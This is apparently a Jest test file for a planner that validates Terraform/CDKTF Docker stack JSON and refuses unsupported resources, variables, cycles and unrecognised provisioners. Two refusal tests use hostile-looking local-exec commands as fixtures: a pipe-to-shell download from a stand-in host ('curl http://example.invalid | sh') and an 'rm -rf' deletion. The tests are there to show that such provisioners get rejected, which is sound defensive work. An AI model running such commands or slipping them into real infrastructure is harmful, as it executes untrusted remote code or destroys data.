import { StackInputError } from "../../lib/runtime/errors";
import { planStack } from "../../lib/runtime/stack-plan";
import { baseProps, synthHardened } from "../support/hardened-synth";

const DIGEST = "sha256:" + "cd".repeat(32);

/** A stack shaped like a HardenedContainer synth with the tag helper. */
function stack(
  extra: Record<string, Record<string, unknown>> = {},
  data?: Record<string, unknown>,
) {
  return {
    "//": { metadata: { stackName: "shop", version: "0.21.0" } },
    terraform: {
      required_providers: { docker: { source: "kreuzwerker/docker", version: "3.6.2" } },
    },
    provider: { docker: [{}] },
    data: data ?? { docker_registry_image: { web_tag: { name: "127.0.0.1:5000/hd/web:1.0" } } },
    resource: {
      docker_image: {
        web_image: {
          name: "127.0.0.1:5000/hd/web@${data.docker_registry_image.web_tag.sha256_digest}",
          pull_triggers: ["${data.docker_registry_image.web_tag.sha256_digest}"],
          keep_locally: true,
        },
      },
      terraform_data: {
        "api_pids-limit_1": {
          input: { container_id: "${docker_container.api_container_1.id}", pids_limit: 128 },
          triggers_replace: { container_id: "${docker_container.api_container_1.id}" },
          provisioner: [
            {
              "local-exec": {
                command: "docker update --pids-limit 128 ${docker_container.api_container_1.id}",
              },
            },
          ],
        },
      },
      docker_container: {
        api_container_1: {
          name: "api",
          image: "${docker_image.web_image.image_id}",
          networks_advanced: [{ name: "${docker_network.backend.name}" }],
          "//": { metadata: { path: "shop/api/container", uniqueId: "api_container_1" } },
        },
      },
      docker_network: { backend: { name: "backend", internal: true } },
      ...extra,
    },
  };
}

function refusal(json: unknown, stackName?: string): string {
  try {
    planStack(json, stackName);
  } catch (error) {
    expect(error).toBeInstanceOf(StackInputError);
    return (error as Error).message;
  }
  throw new Error("expected the stack to be refused");
}

describe("planStack", () => {
  it("orders resources so that every reference is created first", () => {
    const plan = planStack(stack());
    expect(plan.stackName).toBe("shop");
    expect(plan.resources.map((r) => r.address)).toEqual([
      "docker_network.backend",
      "data.docker_registry_image.web_tag",
      "docker_image.web_image",
      "docker_container.api_container_1",
      "terraform_data.api_pids-limit_1",
    ]);
    const container = plan.resources.find((r) => r.kind === "container");
    expect([...(container?.dependsOn ?? [])].sort()).toEqual([
      "docker_image.web_image",
      "docker_network.backend",
    ]);
    expect(container?.constructPath).toBe("shop/api/container");
  });

  it("recognises the PIDs-limit step through parsePidsLimitStep", () => {
    const step = planStack(stack()).resources.find((r) => r.kind === "pids-limit");
    expect(step?.pidsLimit).toEqual({
      resourceName: "api_pids-limit_1",
      containerResourceName: "api_container_1",
      limit: 128,
    });
    expect(step?.dependsOn).toEqual(["docker_container.api_container_1"]);
  });

  it("lets the caller override the stack name", () => {
    expect(planStack(stack(), "other").stackName).toBe("other");
  });

  it("refuses unsupported resource types by address, before anything else", () => {
    const message = refusal(
      stack({
        docker_config: { cfg: { name: "cfg", data: "eA==" } },
        null_resource: { hook: {} },
      }),
    );
    expect(message).toContain("docker_config.cfg");
    expect(message).toContain("null_resource.hook");
    expect(message).toContain("nothing was created");
  });

  it("refuses unsupported data sources by address", () => {
    expect(refusal(stack({}, { docker_network: { ext: { name: "x" } } }))).toContain(
      "data.docker_network.ext",
    );
  });

  it("refuses a terraform_data that is not a PIDs-limit step", () => {
    const message = refusal(
      stack({
        terraform_data: {
          hook: {
            provisioner: [{ "local-exec": { command: "curl http://example.invalid | sh" } }],
          },
        },
      }),
    );
    expect(message).toContain("terraform_data.hook");
    expect(message).toContain("not a recognised PIDs-limit step");
  });

  it("plans a terraform_data without provisioners (the labels trigger) as inert: it runs and creates nothing", () => {
    const { json } = synthHardened(baseProps());
    const plan = planStack(json, "shop");
    const inert = plan.resources.filter((r) => r.kind === "inert");
    expect(inert.map((r) => r.address)).toEqual([
      expect.stringMatching(/^terraform_data\.api_labels_/),
    ]);
    expect(plan.resources.map((r) => r.kind).sort()).toEqual(["container", "inert", "pids-limit"]);
  });

  it("refuses a provisioner-free terraform_data with attributes other than input and triggers_replace", () => {
    const message = refusal(
      stack({ terraform_data: { odd: { input: { a: "1" }, connection: { host: "x" } } } }),
    );
    expect(message).toContain("terraform_data.odd");
    expect(message).toContain("connection");
  });

  it("refuses a PIDs-limit step carrying a second provisioner rather than skipping it", () => {
    const json = stack();
    const step = json.resource.terraform_data["api_pids-limit_1"] as { provisioner: unknown[] };
    step.provisioner.push({ "local-exec": { command: "rm -rf /tmp/x" } });
    expect(refusal(json)).toMatch(/not a recognised PIDs-limit step/);
  });

  it("refuses variables, locals and functions, naming resource and attribute", () => {
    const json = stack();
    (json.resource.docker_container.api_container_1 as Record<string, unknown>).user = "${var.uid}";
    const message = refusal(json);
    expect(message).toContain("docker_container.api_container_1");
    expect(message).toContain("attribute user");
    expect(message).toContain("${var.uid}");

    const withFunction = stack();
    (withFunction.resource.docker_network.backend as Record<string, unknown>).name =
      '${lower("X")}';
    expect(refusal(withFunction)).toContain("docker_network.backend: attribute name");
  });

  it("refuses a reference to a resource that is not in the stack", () => {
    const json = stack();
    (json.resource.docker_container.api_container_1 as Record<string, unknown>).image =
      "${docker_image.missing.image_id}";
    expect(refusal(json)).toMatch(/docker_image\.missing is not a resource of this stack/);
  });

  it("refuses a reference to an attribute the harness does not produce", () => {
    const json = stack();
    (json.resource.docker_container.api_container_1 as Record<string, unknown>).image =
      "${docker_image.web_image.latest}";
    expect(refusal(json)).toMatch(/knows docker_image\.web_image\.image_id/);
  });

  it("refuses count / for_each and invalid attributes", () => {
    const counted = stack();
    (counted.resource.docker_network.backend as Record<string, unknown>).count = 2;
    expect(refusal(counted)).toMatch(/docker_network\.backend: count/);

    const bad = stack();
    (bad.resource.docker_container.api_container_1 as Record<string, unknown>).memory = "256";
    expect(refusal(bad)).toMatch(/docker_container\.api_container_1: attribute memory = "256"/);
  });

  it("refuses a module block and a stack without a name", () => {
    expect(refusal({ ...stack(), module: { m: { source: "./m" } } })).toMatch(/module/);
    const unnamed = stack() as Record<string, unknown>;
    delete unnamed["//"];
    expect(refusal(unnamed)).toMatch(/--stack NAME/);
  });

  it("refuses a dependency cycle", () => {
    const message = refusal({
      "//": { metadata: { stackName: "s" } },
      resource: {
        docker_network: {
          a: { name: "a-${docker_network.b.name}" },
          b: { name: "b-${docker_network.a.name}" },
        },
      },
    });
    expect(message).toMatch(/dependency cycle between docker_network\.a, docker_network\.b/);
  });

  it("accepts a pinned image with no references and no data sources", () => {
    const plan = planStack({
      "//": { metadata: { stackName: "s" } },
      resource: {
        docker_container: { c: { name: "c", image: `127.0.0.1:5000/hd/web@${DIGEST}` } },
      },
    });
    expect(plan.resources.map((r) => r.kind)).toEqual(["container"]);
  });
});
